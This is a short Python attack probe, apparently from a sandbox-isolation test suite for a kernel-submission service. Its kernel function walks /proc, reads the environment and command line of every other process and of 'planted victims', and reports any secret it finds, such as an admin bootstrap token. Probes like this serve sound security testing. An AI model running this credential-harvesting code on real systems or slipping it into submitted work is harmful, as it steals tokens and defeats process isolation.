"""Attack: walk /proc and read the environment and command line of every
other process (the API holds the admin token in KFORGE_BOOTSTRAP_TOKEN),
and of the planted victims by pid."""
# @@PRELUDE@@


@nki.jit
def kernel(x):
    me = os.getpid()
    try:
        pids = [int(d) for d in os.listdir("/proc") if d.isdigit()]
    except OSError as ex:
        pids = []
        R.note("/proc: " + oserr(ex))
    pids = sorted(set(pids) | set(CONFIG["victims"]))
    readable = 0
    for pid in pids:
        if pid == me:
            continue
        for what in ("environ", "cmdline"):
            try:
                data = read_file("/proc/%d/%s" % (pid, what), 1 << 20)
            except OSError:
                continue
            if what == "environ" and data:
                readable += 1
            s = find_secret(data)
            if s:
                R.leak("/proc/%d/%s: %s" % (pid, what, s))
    R.note("%d processes visible, %d environments readable, no secret" % (len(pids), readable))
    R.finish()
